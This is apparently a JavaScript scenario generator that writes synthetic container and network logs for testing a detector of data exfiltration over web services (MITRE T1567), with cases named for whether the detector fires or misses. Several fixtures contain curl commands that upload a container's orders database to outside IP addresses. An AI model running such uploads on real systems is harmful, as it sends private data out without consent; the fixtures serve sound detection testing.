// Scenarios of uploads to web services that need a container's commands, or none of them, for scripts/make-scenarios.mjs.
const WEB = 'T1567-exfiltration-over-web-service';

export function makeWebScenarios(tools) {
  const { DAY_0, HOUR, MINUTE, KB, MB, drawing, conn, range, write, writeLines } = tools;
  const { containerUid, inspectOf, engineEvent, engineLines, processText } = tools;
  const START = DAY_0 + 9 * HOUR;

  /** One container that started an hour before, with what the engine and the process sensor tell of it. */
  const container = (scenario, ip, { execs = [], starts = [] }) => {
    const each = {
      ...{ uid: containerUid(drawing(`${scenario} container`)), name: 'shop-orders', labels: {}, ip },
      ...{ image: 'registry.example/shop/orders:4', startedAt: START - HOUR, command: ['node', 'server.js'] },
    };
    write(WEB, scenario, 'inspect.json', `${JSON.stringify([inspectOf(each)], null, 1)}\n`);
    const events = execs.map(([at, command]) => engineEvent(each, `exec_create: ${command}`, at));
    if (events.length > 0) write(WEB, scenario, 'engine-events.ndjson', engineLines(events));
    write(WEB, scenario, 'process.ndjson', processText(each, starts));
  };

  const oneWay = (scenario, from, megabytes) =>
    writeLines(WEB, scenario, 'conn.log', [
      conn(drawing(scenario), {
        at: START,
        from,
        to: '203.0.113.77',
        sent: megabytes * MB,
        received: 2 * KB,
        seconds: 3,
      }),
    ]);

  const answered = (scenario, sent, received) => {
    const ends = { at: START + 1, from: '10.20.0.66', to: '203.0.113.78', seconds: 4 };
    writeLines(WEB, scenario, 'conn.log', [conn(drawing(scenario), { ...ends, sent, received })]);
    container(scenario, ends.from, {
      starts: [[START, 'curl -s -T /var/lib/orders/orders.db https://203.0.113.78/orders.db']],
    });
  };

  oneWay('fires-on-a-small-dump-in-the-first-hour', '10.20.0.67', 3.6);
  oneWay('misses-a-compressed-dump-in-the-first-hour', '10.20.0.68', 2);
  answered('fires-on-a-command-whose-upload-is-answered-with-as-much', 6 * MB, 6.6 * MB);
  answered('misses-a-command-whose-upload-is-drowned-in-answers', 6 * MB, 15 * MB);

  // Nobody looks at the network: the engine tells of the session, the process sensor of what it ran.
  container('fires-on-an-entered-container-that-uploads-unseen', '10.20.0.69', {
    execs: [[START, 'sh']],
    starts: [
      [START, 'sh'],
      [START + 40, 'curl -s -T /var/lib/orders/orders.db https://203.0.113.79/orders.db'],
    ],
  });
  // Nobody entered it: its own program uploads, as backups do.
  container('misses-a-program-that-uploads-unseen', '10.20.0.71', {
    starts: [[START, 'curl -s -T /var/lib/orders/orders.db https://203.0.113.81/orders.db']],
  });
  // The engine asks for the health; a process posts its numbers.
  container('quiet-health-check-beside-posts-unseen', '10.20.0.70', {
    execs: range(20).map((index) => [START + index * 30.02, '/bin/sh -c curl -f http://localhost/healthz']),
    starts: range(4).map((index) => [
      START + index * 2.5 * MINUTE + 11,
      'curl -s --data-binary @/var/run/orders/metrics.json https://203.0.113.80/ingest',
    ]),
  });
}
